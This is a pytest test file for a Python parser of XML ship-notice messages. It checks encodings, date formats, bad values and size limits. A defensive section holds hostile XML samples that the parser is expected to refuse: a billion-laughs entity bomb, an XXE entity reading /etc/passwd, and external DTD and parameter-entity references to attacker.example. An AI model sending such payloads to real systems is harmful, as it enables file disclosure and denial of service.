from datetime import UTC, date, datetime
from decimal import Decimal

import pytest

from ratecalc.shop.notices.parse import (
    NoticeItem,
    ShipNotice,
    ShipNoticeError,
    parse_ship_notice,
)

OFFICIAL_EXAMPLE = """<?xml version="1.0" encoding="utf-8"?>
<ShipNotice>
  <OrderNumber>ABC123</OrderNumber>
  <OrderID>123456</OrderID>
  <CustomerCode>customer@mystore.com</CustomerCode>
  <CustomerNotes></CustomerNotes>
  <InternalNotes></InternalNotes>
  <NotesToCustomer></NotesToCustomer>
  <NotifyCustomer></NotifyCustomer>
  <LabelCreateDate>10/19/2019 12:56</LabelCreateDate>
  <ShipDate>10/19/2019</ShipDate>
  <Carrier>USPS</Carrier>
  <Service>Priority Mail</Service>
  <TrackingNumber>1Z909084330298430820</TrackingNumber>
  <ShippingCost>4.95</ShippingCost>
  <CustomField1></CustomField1>
  <CustomField2></CustomField2>
  <CustomField3></CustomField3>
  <Recipient>
    <Name>The President</Name>
    <Company>US Govt</Company>
    <Address1>1600 Pennsylvania Ave</Address1>
    <Address2></Address2>
    <City>Washington</City>
    <State>DC</State>
    <PostalCode>20500</PostalCode>
    <Country>US</Country>
  </Recipient>
  <Items>
    <Item>
      <SKU>FD88821</SKU>
      <Name>My Product Name</Name>
      <Quantity>2</Quantity>
      <LineItemID>25590</LineItemID>
      <UPC><![CDATA[UPC_VALUE]]></UPC>
    </Item>
  </Items>
</ShipNotice>
"""

EXPECTED = ShipNotice(
    order_id="123456", order_number="ABC123", carrier="USPS", service="Priority Mail",
    tracking_number="1Z909084330298430820", ship_date=date(2019, 10, 19),
    shipping_cost=Decimal("4.95"), notes_to_customer=None, internal_notes=None,
    customer_notes=None, label_create_date=datetime(2019, 10, 19, 12, 56, tzinfo=UTC),
    items=(NoticeItem(line_item_id="25590", sku="FD88821", name="My Product Name", quantity=2),),
    customer_code="customer@mystore.com", notify_customer=None,
)


def notice(inner: str) -> bytes:
    return f'<?xml version="1.0" encoding="utf-8"?><ShipNotice>{inner}</ShipNotice>'.encode()


def test_official_example_parses():
    assert parse_ship_notice(OFFICIAL_EXAMPLE.encode()) == EXPECTED


def test_utf16_body():
    body = OFFICIAL_EXAMPLE.replace("utf-8", "utf-16").encode("utf-16")
    assert body[:2] in (b"\xff\xfe", b"\xfe\xff")
    assert parse_ship_notice(body) == EXPECTED


def test_utf16_label_on_utf8_body():
    body = OFFICIAL_EXAMPLE.replace("utf-8", "UTF-16").replace("USPS", "Ünïcode").encode()
    assert parse_ship_notice(body).carrier == "Ünïcode"


def test_utf8_bom_and_non_ascii_text():
    body = b"\xef\xbb\xbf" + notice("<NotesToCustomer>Danke schön &amp; \u2603</NotesToCustomer>")
    assert parse_ship_notice(body).notes_to_customer == "Danke schön & \u2603"


def test_notes_and_flags():
    parsed = parse_ship_notice(notice(
        "<NotesToCustomer> Thanks! </NotesToCustomer><InternalNotes>fragile</InternalNotes>"
        "<CustomerNotes>ring bell</CustomerNotes><NotifyCustomer>true</NotifyCustomer>"))
    assert (parsed.notes_to_customer, parsed.internal_notes, parsed.customer_notes,
            parsed.notify_customer) == ("Thanks!", "fragile", "ring bell", True)


def test_items_may_be_absent_or_empty():
    assert parse_ship_notice(notice("<OrderID>1</OrderID>")).items == ()
    assert parse_ship_notice(notice("<Items/>")).items == ()
    parsed = parse_ship_notice(notice("<Items><Item><SKU>A</SKU></Item><Item/></Items>"))
    assert parsed.items == (NoticeItem(None, "A", None, None), NoticeItem(None, None, None, None))


@pytest.mark.parametrize("value, expected", [
    ("10/19/2019 12:56", datetime(2019, 10, 19, 12, 56, tzinfo=UTC)),
    ("1/2/2020 3:04", datetime(2020, 1, 2, 3, 4, tzinfo=UTC)),
    ("10/19/2019 12:56:07", datetime(2019, 10, 19, 12, 56, 7, tzinfo=UTC)),
    ("10/19/2019 12:56 AM", datetime(2019, 10, 19, 0, 56, tzinfo=UTC)),
    ("10/19/2019 1:56:30 PM", datetime(2019, 10, 19, 13, 56, 30, tzinfo=UTC)),
    ("10/19/2019 21:56 PM", datetime(2019, 10, 19, 21, 56, tzinfo=UTC)),  # as in the docs
    ("10/19/2019", datetime(2019, 10, 19, tzinfo=UTC)),
    ("2019-10-19T12:56:00Z", datetime(2019, 10, 19, 12, 56, tzinfo=UTC)),
])
def test_label_create_date_formats(value, expected):
    parsed = parse_ship_notice(notice(f"<LabelCreateDate>{value}</LabelCreateDate>"))
    assert parsed.label_create_date == expected


@pytest.mark.parametrize("value", ["10/19/2019", "10/19/2019 23:59", "10/19/2019 11:59 PM",
                                   "2019-10-19"])
def test_ship_date_with_or_without_time(value):
    assert parse_ship_notice(notice(f"<ShipDate>{value}</ShipDate>")).ship_date == \
        date(2019, 10, 19)


@pytest.mark.parametrize("inner, message", [
    ("<ShipDate>13/45/2019</ShipDate>", "ShipDate is not a valid date"),
    ("<LabelCreateDate>yesterday</LabelCreateDate>", "LabelCreateDate is not a valid date"),
    ("<ShippingCost>cheap</ShippingCost>", "ShippingCost is not a number"),
    ("<ShippingCost>NaN</ShippingCost>", "ShippingCost is not a number"),
    ("<Items><Item><Quantity>1.5</Quantity></Item></Items>", "Quantity must be a whole number"),
    ("<Items><Item><Quantity>-1</Quantity></Item></Items>", "Quantity must be a whole number"),
    ("<NotifyCustomer>maybe</NotifyCustomer>", "NotifyCustomer must be true or false"),
])
def test_bad_values(inner, message):
    with pytest.raises(ShipNoticeError, match=message):
        parse_ship_notice(notice(inner))


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<ShipNotice><OrderID>&lol9;</OrderID></ShipNotice>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE ShipNotice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<ShipNotice><OrderID>&xxe;</OrderID></ShipNotice>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE ShipNotice SYSTEM "http://attacker.example/evil.dtd">
<ShipNotice><OrderID>1</OrderID></ShipNotice>"""

PLAIN_DOCTYPE = b"<!DOCTYPE ShipNotice><ShipNotice><OrderID>1</OrderID></ShipNotice>"

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE ShipNotice [<!ENTITY % remote SYSTEM "http://attacker.example/x"> %remote;]>
<ShipNotice/>"""


@pytest.mark.parametrize("body", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PLAIN_DOCTYPE,
                                  PARAMETER_ENTITY],
                         ids=["billion-laughs", "external-entity", "external-dtd", "doctype",
                              "parameter-entity"])
def test_dtds_and_entities_are_refused(body):
    with pytest.raises(ShipNoticeError, match="not allowed"):
        parse_ship_notice(body)


def test_undeclared_entity_is_refused():
    with pytest.raises(ShipNoticeError, match="not well-formed"):
        parse_ship_notice(notice("<OrderID>&xxe;</OrderID>"))


def test_ten_megabyte_body_is_refused_before_parsing():
    body = notice("<InternalNotes>" + "x" * 10_000_000 + "</InternalNotes>")
    with pytest.raises(ShipNoticeError, match="larger than 1000000 bytes"):
        parse_ship_notice(body)


def test_max_bytes_is_configurable():
    body = OFFICIAL_EXAMPLE.encode()
    with pytest.raises(ShipNoticeError, match="larger than 100 bytes"):
        parse_ship_notice(body, max_bytes=100)
    assert parse_ship_notice(body, max_bytes=len(body)) == EXPECTED


@pytest.mark.parametrize("body, message", [
    (b"", "body is empty"),
    (b"  \r\n\t", "body is empty"),
    (b"garbage", "not well-formed"),
    (b"\x00\xff\xfe\x01binary", "not well-formed"),
    (b'{"orderNumber": "ABC123"}', "not well-formed"),
    (b"<ShipNotice><OrderID>1</OrderID>", "not well-formed"),
    (b'<?xml version="1.0" encoding="klingon"?><ShipNotice/>', "not well-formed"),
    (b"<Orders><Order/></Orders>", "root element must be ShipNotice"),
    (b"<shipnotice/>", "root element must be ShipNotice"),
    ("<ShipNotice/>", "body must be bytes"),
])
def test_garbage_is_refused(body, message):
    with pytest.raises(ShipNoticeError, match=message) as info:
        parse_ship_notice(body)
    assert "\n" not in str(info.value)
    assert isinstance(info.value, ValueError)


def test_namespaced_root_is_accepted():
    body = b'<ShipNotice xmlns="urn:x"><OrderID>9</OrderID></ShipNotice>'
    assert parse_ship_notice(body).order_id == "9"
